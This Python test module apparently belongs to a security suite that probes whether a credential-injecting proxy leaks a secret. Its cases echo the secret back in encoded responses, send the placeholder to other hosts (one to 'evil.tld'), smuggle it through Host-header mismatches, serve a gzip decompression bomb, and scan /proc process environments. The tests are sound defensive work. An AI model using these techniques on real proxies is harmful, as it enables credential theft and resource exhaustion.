"""B1, B2, B5: can a session learn a secret that its road puts into requests, or send it somewhere else?

The road has one secret, for `allowed.example`; the session holds its placeholder. The canary is in the operator's own
network, so secrets go to it without TLS.
"""

from __future__ import annotations

import asyncio
import base64
import gzip
import html
import json
import os
import zlib
from collections.abc import Callable, Mapping, Sequence
from dataclasses import dataclass, field
from pathlib import Path
from secrets import token_hex
from urllib.parse import quote, quote_plus

from hostler.attacks.canary import Answer, Met
from hostler.attacks.cases import Case, CouldNotRun, OnProxy, Severity
from hostler.attacks.grounds import LISTED, OpenRoad, ProxyGround, get
from hostler.engine.egress_port import SessionVariable, VariableUse

HOST = "allowed.example"
OTHER = "a.below.example"


def _case(id_: str, title: str, attack: OnProxy, severity: Severity = "critical") -> Case:
    return Case(id_, title, severity, "roads", proxy=attack)


@dataclass
class OneSecret:
    """Implements `SessionVariables` with one variable, for `allowed.example` only."""

    read_only: bool = False
    value: str = field(default_factory=lambda: f's3cr/t+"<&>=~ ;{token_hex(12)}')
    placeholder: str = field(default_factory=lambda: f"hostler_placeholder_{_letters(32)}")
    uses: list[VariableUse] = field(default_factory=list)

    @property
    def placeholders(self) -> Mapping[str, str]:
        return {"TOKEN": self.placeholder}

    def concerns(self, host: str) -> bool:
        return host == HOST

    async def open(self, host: str) -> Sequence[SessionVariable]:
        value = self.value if host == HOST else None
        ids = ("vlt_attack", "vcrd_attack")
        return [
            SessionVariable("TOKEN", self.placeholder, *ids, value, header=True, body=True, read_only=self.read_only)
        ]

    async def used(self, uses: Sequence[VariableUse]) -> None:
        self.uses += uses

    def note(self, use: VariableUse) -> None:
        self.uses.append(use)


def _letters(number: int) -> str:
    return base64.b32encode(os.urandom(number)).decode().lower()[:number]


# ----------------------------------------------------------------------------------------------------------- B1: echoes

Form = Callable[[bytes], bytes]


def forms(secret: bytes) -> dict[str, bytes]:
    """What the secret may look like in an answer, for whoever looks for it there."""
    text = secret.decode()
    return {
        "as it is": secret,
        "base64": base64.b64encode(secret).rstrip(b"="),
        "base64 for URLs": base64.urlsafe_b64encode(secret).rstrip(b"="),
        "base64, one byte later": base64.b64encode(b"\0" + secret)[4:-4],
        "base64, two bytes later": base64.b64encode(b"\0\0" + secret)[4:-4],
        "URL-encoded": quote(text, safe="").encode(),
        "URL-encoded as a form": quote_plus(text).encode(),
        "in JSON": json.dumps(text)[1:-1].encode(),
        "in HTML": html.escape(text).encode(),
        "backwards": secret[::-1],
    }


def _lower_percent(secret: bytes) -> bytes:
    return "".join(f"%{byte:02x}" if not chr(byte).isalnum() else chr(byte) for byte in secret).encode()


def _json_slashes(secret: bytes) -> bytes:
    return json.dumps(secret.decode())[1:-1].replace("/", "\\/").encode()


def _by_numbers(chars: str, written: str) -> Form:
    """In JSON, with these characters by their numbers, as several encoders do."""

    def form(secret: bytes) -> bytes:
        text = "".join(f"\\u{ord(c):{written}}" if c in chars else json.dumps(c)[1:-1] for c in secret.decode())
        return text.encode()

    return form


_NUMBERED: dict[str, Form] = {
    "in JSON as .NET writes it": _by_numbers("<>&'\"+`", "04X"),
    "in JSON as Gson writes it": _by_numbers("<>&='", "04x"),
    "in JSON as Go writes it": _by_numbers("<>&", "04x"),
    "in JSON as PHP can write it": _by_numbers("<>&'\"", "04X"),
}


def told_by(answer: bytes, secret: bytes) -> list[str]:
    """The forms in which an answer tells the secret, also when it has to be unpacked first."""
    body = answer.partition(b"\r\n\r\n")[2]
    readings = [answer, body, _unchunked(body)]
    readings += [unpack(reading) for reading in readings for unpack in (_gunzip, _inflate)]
    everything = b"\n".join(readings)
    known = {
        **forms(secret),
        "URL-encoded in small letters": _lower_percent(secret),
        "in JSON, slashes too": _json_slashes(secret),
        **{name: form(secret) for name, form in _NUMBERED.items()},
    }
    return [name for name, form in known.items() if name != "backwards" and form in everything]


def _unchunked(body: bytes) -> bytes:
    out = b""
    while body:
        line, _, rest = body.partition(b"\r\n")
        try:
            size = int(line.partition(b";")[0], 16)
        except ValueError:
            return out
        out, body = out + rest[:size], rest[size + 2 :]
        if size == 0:
            break
    return out


def _gunzip(data: bytes) -> bytes:
    try:
        return zlib.decompressobj(31).decompress(data[data.index(b"\x1f\x8b") :], 1 << 20)
    except (ValueError, zlib.error):
        return b""


def _inflate(data: bytes) -> bytes:
    try:
        return zlib.decompressobj().decompress(data, 1 << 20)
    except zlib.error:
        return b""


async def _exchange(
    ground: ProxyGround,
    answer: Answer,
    *,
    known: OneSecret | None = None,
    request: Callable[[str, str], bytes] | None = None,
    seconds: float = 3.0,
) -> tuple[bytes, OneSecret, OpenRoad]:
    """One request with the placeholder in a header, and what came back. The canary did get the secret."""
    if ground.tools.make_secrets is None:
        raise CouldNotRun("no road with secrets was given to the attack")
    known = known or OneSecret()
    async with ground.road(LISTED, secrets=ground.tools.make_secrets(known)) as road:
        ground.canaries.answer = answer
        url = f"http://{HOST}:{ground.canaries.port}/"
        data = (
            request(url, known.placeholder)
            if request
            else get(url, f"Host: {HOST}:{ground.canaries.port}", f"Authorization: Bearer {known.placeholder}")
        )
        got = await road.say(data, seconds=seconds)
        return got, known, road


def _arrived(ground: ProxyGround, known: OneSecret) -> None:
    if known.value.encode() not in ground.canaries.seen:
        raise CouldNotRun("the secret was not put into an allowed request: nothing can be proved")


def _echoes(
    form: Form, *, head: str = "HTTP/1.1 200 OK", piece: int = 0, coding: str = "", header: str = ""
) -> OnProxy:
    """The server says the secret in `form`: in its body, or in the header of this name."""

    async def attack(ground: ProxyGround) -> Sequence[str]:
        known = OneSecret()
        told = form(known.value.encode())
        body = b'{"echo": "' + told + b'", "more": "' + b"x" * 50 + b'"}'
        if coding == "gzip":
            body = gzip.compress(body)
        elif coding == "deflate":
            body = zlib.compress(body)

        async def answer(met: Met, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
            lines = [head.encode(), b"content-type: application/json", b"connection: close"]
            if coding:
                lines.append(b"content-encoding: " + coding.encode())
            if header:
                lines.append(header.encode() + b": " + told.replace(b"\n", b""))
            if piece:
                writer.write(b"\r\n".join([*lines, b"transfer-encoding: chunked"]) + b"\r\n\r\n")
                for at in range(0, len(body), piece):
                    part = body[at : at + piece]
                    writer.write(b"%x\r\n%b\r\n" % (len(part), part))
                    await writer.drain()
                writer.write(b"0\r\n\r\n")
            else:
                writer.write(b"\r\n".join([*lines, b"content-length: %d" % len(body)]) + b"\r\n\r\n" + body)

        got, _, _ = await _exchange(ground, answer, known=known)
        _arrived(ground, known)
        return [f"the secret came back {name}" for name in told_by(got, known.value.encode())]

    return attack


def _at(offset: int, encode: Callable[[bytes], bytes]) -> Form:
    return lambda secret: encode(b"user:"[:offset] + secret + b":tail")


def _as(name: str) -> Form:
    return lambda secret: forms(secret)[name]


async def _early_echo(ground: ProxyGround) -> Sequence[str]:
    """In an informational answer before the real one."""

    async def answer(met: Met, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        value = bytes(met.data).partition(b"earer ")[2].partition(b"\r\n")[0]
        writer.write(b"HTTP/1.1 103 Early Hints\r\nLink: <" + value + b">\r\n\r\n")
        writer.write(b"HTTP/1.1 200 OK\r\nX-Echo: " + value + b"\r\nContent-Length: 2\r\n\r\nok")

    got, known, _ = await _exchange(ground, answer)
    _arrived(ground, known)
    return [f"the secret came back {name}" for name in told_by(got, known.value.encode())]


async def _trailer_echo(ground: ProxyGround) -> Sequence[str]:
    """In a trailer behind the last chunk."""

    async def answer(met: Met, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        value = bytes(met.data).partition(b"earer ")[2].partition(b"\r\n")[0]
        head = b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\nTrailer: X-Echo\r\nConnection: close\r\n\r\n"
        writer.write(head + b"2\r\nok\r\n0\r\nX-Echo: " + value + b"\r\n\r\n")

    got, known, _ = await _exchange(ground, answer)
    _arrived(ground, known)
    return [f"the secret came back {name}" for name in told_by(got, known.value.encode())]


async def _reason_echo(ground: ProxyGround) -> Sequence[str]:
    """In the reason phrase of the status line."""

    async def answer(met: Met, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        value = bytes(met.data).partition(b"earer ")[2].partition(b"\r\n")[0]
        writer.write(b"HTTP/1.1 500 " + value + b"\r\nContent-Length: 2\r\nConnection: close\r\n\r\nno")

    got, known, _ = await _exchange(ground, answer)
    _arrived(ground, known)
    return [f"the secret came back {name}" for name in told_by(got, known.value.encode())]


async def _basic_echo(ground: ProxyGround) -> Sequence[str]:
    """Sent as `Basic`, and echoed as the server got it: the secret inside of the base64."""

    async def answer(met: Met, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        value = bytes(met.data).partition(b"asic ")[2].partition(b"\r\n")[0]
        writer.write(b"HTTP/1.1 401 No\r\nContent-Length: %d\r\nConnection: close\r\n\r\n" % len(value) + value)

    def request(url: str, placeholder: str) -> bytes:
        blob = base64.b64encode(f"user:{placeholder}".encode()).decode()
        return get(url, f"Host: {url[7:-1]}", f"Authorization: Basic {blob}")

    got, known, _ = await _exchange(ground, answer, request=request)
    sent = base64.b64encode(f"user:{known.value}".encode())
    if sent not in ground.canaries.seen:
        raise CouldNotRun("the secret was not put into `Authorization: Basic`")
    return ["the secret came back inside base64"] if sent in got else []


BOMB_BYTES = 48 << 20


async def _bomb(ground: ProxyGround) -> Sequence[str]:
    """48 MiB of zeros in 48 KiB. To be searched it has to be unpacked, which must end long before all of it is."""
    packed = gzip.compress(bytes(BOMB_BYTES), 9)

    async def answer(met: Met, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        head = b"HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\nContent-Length: %d\r\nConnection: close\r\n\r\n"
        writer.write(head % len(packed) + packed)

    got, known, _ = await _exchange(ground, answer, seconds=20.0)
    _arrived(ground, known)
    return [f"{len(got) >> 20} MiB were unpacked"] if len(got) > BOMB_BYTES // 2 else []


_B1 = (
    _case("B1.1", "the secret as it is", _echoes(lambda secret: secret)),
    _case("B1.2", "in base64", _echoes(_as("base64"))),
    _case("B1.3", "in base64 for URLs", _echoes(_as("base64 for URLs"))),
    _case("B1.4", "in base64 inside a longer text, one byte later", _echoes(_at(1, base64.b64encode))),
    _case("B1.5", "in base64 inside a longer text, two bytes later", _echoes(_at(2, base64.b64encode))),
    _case("B1.6", "URL-encoded", _echoes(_as("URL-encoded"))),
    _case("B1.7", "URL-encoded in small letters", _echoes(_lower_percent)),
    _case("B1.8", "URL-encoded as in a form", _echoes(_as("URL-encoded as a form"))),
    _case("B1.9", "escaped in JSON", _echoes(_as("in JSON"))),
    _case("B1.10", "escaped in JSON, slashes too", _echoes(_json_slashes)),
    *(_case(f"B1.{n}", f"escaped {name}", _echoes(form)) for n, (name, form) in enumerate(_NUMBERED.items(), 31)),
    _case("B1.12", "escaped in HTML", _echoes(_as("in HTML"))),
    _case("B1.13", "packed with gzip", _echoes(lambda secret: secret, coding="gzip")),
    _case("B1.14", "packed with deflate", _echoes(lambda secret: secret, coding="deflate")),
    _case("B1.15", "packed with gzip, in chunks of three bytes", _echoes(lambda s: s, coding="gzip", piece=3)),
    _case("B1.16", "in chunks of one byte", _echoes(lambda secret: secret, piece=1)),
    _case("B1.17", "in base64 in chunks of seven bytes", _echoes(_as("base64"), piece=7)),
    _case("B1.18", "on an error page", _echoes(lambda s: s, head="HTTP/1.1 500 Internal Server Error")),
    _case(
        "B1.19", "in the place of a redirect", _echoes(_as("URL-encoded"), head="HTTP/1.1 302 Found", header="location")
    ),
    _case("B1.20", "in a cookie", _echoes(lambda secret: secret, header="set-cookie")),
    _case("B1.21", "in a header in base64", _echoes(_as("base64"), header="x-echo")),
    _case("B1.22", "in an early hint", _early_echo),
    _case("B1.23", "in a trailer", _trailer_echo),
    _case("B1.24", "in the reason phrase", _reason_echo),
    _case("B1.25", "inside `Authorization: Basic`, echoed", _basic_echo),
    _case("A11.11", "a bomb in an answer that has to be read", _bomb, "high"),
)

# --------------------------------------------------------------------------------------- B2: the placeholder elsewhere


def _elsewhere(
    make: Callable[[str, str, str], bytes], *, read_only: bool = False, recorded: bool = True, twice: bool = False
) -> OnProxy:
    """`make` gets the allowed host with its port, another one, and the placeholder. The secret must not be sent."""

    async def attack(ground: ProxyGround) -> Sequence[str]:
        await _sent_where_it_may(ground)
        known = OneSecret(read_only=read_only)
        assert ground.tools.make_secrets is not None
        async with ground.road(LISTED, secrets=ground.tools.make_secrets(known)) as road:
            port = ground.canaries.port
            ground.canaries.answer = _all_in
            await road.say(make(f"{HOST}:{port}", f"{OTHER}:{port}", known.placeholder), seconds=1.0, to_end=twice)
            seen = ground.canaries.seen
            found = [f"the secret arrived {name}" for name, form in forms(known.value.encode()).items() if form in seen]
            if recorded and not any(use.outcome != "substituted" for use in known.uses):
                found.append("nothing was recorded of the try")
            return found

    return attack


async def _all_in(met: Met, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    try:
        async with asyncio.timeout(0.05):
            while piece := await reader.read(65536):
                met.data += piece
    except TimeoutError:
        pass
    writer.write(b"HTTP/1.1 200 OK\r\ncontent-length: 6\r\n\r\ncanary")


async def _sent_where_it_may(ground: ProxyGround) -> None:
    _, known, _ = await _exchange(ground, _all_in)
    _arrived(ground, known)


def _headers(host: str, *headers: str, path: str = "/", method: str = "GET", body: str = "") -> bytes:
    length = [f"Content-Length: {len(body)}"] if body else []
    return get(f"http://{host}{path}", f"Host: {host}", *headers, *length, method=method) + body.encode()


_FORM = "--b\r\nContent-Disposition: form-data; name=t\r\n\r\n{}\r\n--b--\r\n"

_B2 = (
    _case("B2.1", "in a header to another host", _elsewhere(lambda a, o, p: _headers(o, f"Authorization: Bearer {p}"))),
    _case("B2.2", "in a cookie to another host", _elsewhere(lambda a, o, p: _headers(o, f"Cookie: t={p}"))),
    _case(
        "B2.3",
        "in `Authorization: Basic` to another host",
        _elsewhere(lambda a, o, p: _headers(o, f"Authorization: Basic {base64.b64encode(f'u:{p}'.encode()).decode()}")),
    ),
    _case(
        "B2.4",
        "in a body of parts to another host",
        _elsewhere(
            lambda a, o, p: _headers(
                o, "Content-Type: multipart/form-data; boundary=b", method="POST", body=_FORM.format(p)
            ),
            recorded=False,
        ),
    ),
    _case(
        "B2.5",
        "in JSON to another host",
        _elsewhere(
            lambda a, o, p: _headers(o, "Content-Type: application/json", method="POST", body=f'{{"t":"{p}"}}'),
            recorded=False,
        ),
    ),
    _case("B2.6", "in the path of its own host", _elsewhere(lambda a, o, p: _headers(a, path=f"/{p}"))),
    _case("B2.7", "in the query of its own host", _elsewhere(lambda a, o, p: _headers(a, path=f"/?t={p}"))),
    _case("B2.8", "in the query of another host", _elsewhere(lambda a, o, p: _headers(o, path=f"/?t={p}"))),
    _case("B2.9", "in Referer", _elsewhere(lambda a, o, p: _headers(a, f"Referer: http://x/{p}"), recorded=False)),
    _case(
        "B2.10",
        "in a request that changes something, by a credential for reading",
        _elsewhere(lambda a, o, p: _headers(a, f"Authorization: Bearer {p}", method="POST", body="x"), read_only=True),
    ),
    _case(
        "B2.11",
        "to another host whose Host header names its own",
        _elsewhere(lambda a, o, p: get(f"http://{o}/", f"Host: {a}", f"Authorization: Bearer {p}"), recorded=False),
    ),
    _case(
        "B2.12",
        "in a second request, to another host, on the same connection",
        _elsewhere(lambda a, o, p: _headers(a) + _headers(o, f"Authorization: Bearer {p}"), recorded=False, twice=True),
    ),
)

# ------------------------------------------------------------------------------------------------------ B5: left behind


async def _leave_traces(ground: ProxyGround) -> tuple[OneSecret, OpenRoad, bytes]:
    """Uses of the secret that go well, are denied, and fail."""
    known = OneSecret()
    assert ground.tools.make_secrets is not None
    port, said = ground.canaries.port, b""
    async with ground.road(LISTED, secrets=ground.tools.make_secrets(known)) as road:
        ground.canaries.answer = _all_in
        bearer = f"Authorization: Bearer {known.placeholder}"
        for data in (
            _headers(f"{HOST}:{port}", bearer),
            _headers(f"{HOST}:{port}", bearer, path=f"/{known.placeholder}"),
            _headers(f"{HOST}:{port}", bearer, "Content-Type: application/json", method="POST", body=known.placeholder),
            _headers(f"{HOST}:{ground.canaries.other_port}", bearer),
            _headers(f"evil.tld:{port}", bearer),
            _headers(f"{HOST}:80", bearer),
        ):
            said += await road.say(data, seconds=1.0)
        _arrived(ground, known)
        return known, road, said


async def _in_logs(ground: ProxyGround) -> Sequence[str]:
    known, road, _ = await _leave_traces(ground)
    found = []
    for name, form in forms(known.value.encode()).items():
        text = form.decode("latin-1")
        if any(text in line for line in ground.log):
            found.append(f"a log line holds the secret, {name}")
        if text in repr(road.decisions.made) or text in repr(known.uses):
            found.append(f"a record holds the secret, {name}")
    return found


async def _in_denials(ground: ProxyGround) -> Sequence[str]:
    known, _, said = await _leave_traces(ground)
    return [f"the proxy's own words hold the secret, {name}" for name in told_by(said, known.value.encode())]


async def _in_processes(ground: ProxyGround) -> Sequence[str]:
    """Command lines and environments of every process of this host, and the files of the attack."""
    known, _, _ = await _leave_traces(ground)
    secret = known.value.encode()
    return await asyncio.to_thread(_search, ground.place, secret)


def _search(place: Path, secret: bytes) -> list[str]:
    found = []
    for process in Path("/proc").glob("[0-9]*"):
        for name in ("cmdline", "environ"):
            try:
                if secret in (process / name).read_bytes():
                    found.append(f"/proc/{process.name}/{name} holds the secret")
            except OSError:
                continue
    found += [f"{path} holds the secret" for path in place.rglob("*") if path.is_file() and secret in path.read_bytes()]
    return found


_B5 = (
    _case("B5.1", "in logs and records", _in_logs),
    _case("B5.2", "in what the proxy says itself", _in_denials),
    _case("B5.3", "in command lines, environments and files", _in_processes),
)

CASES = (*_B1, *_B2, *_B5)
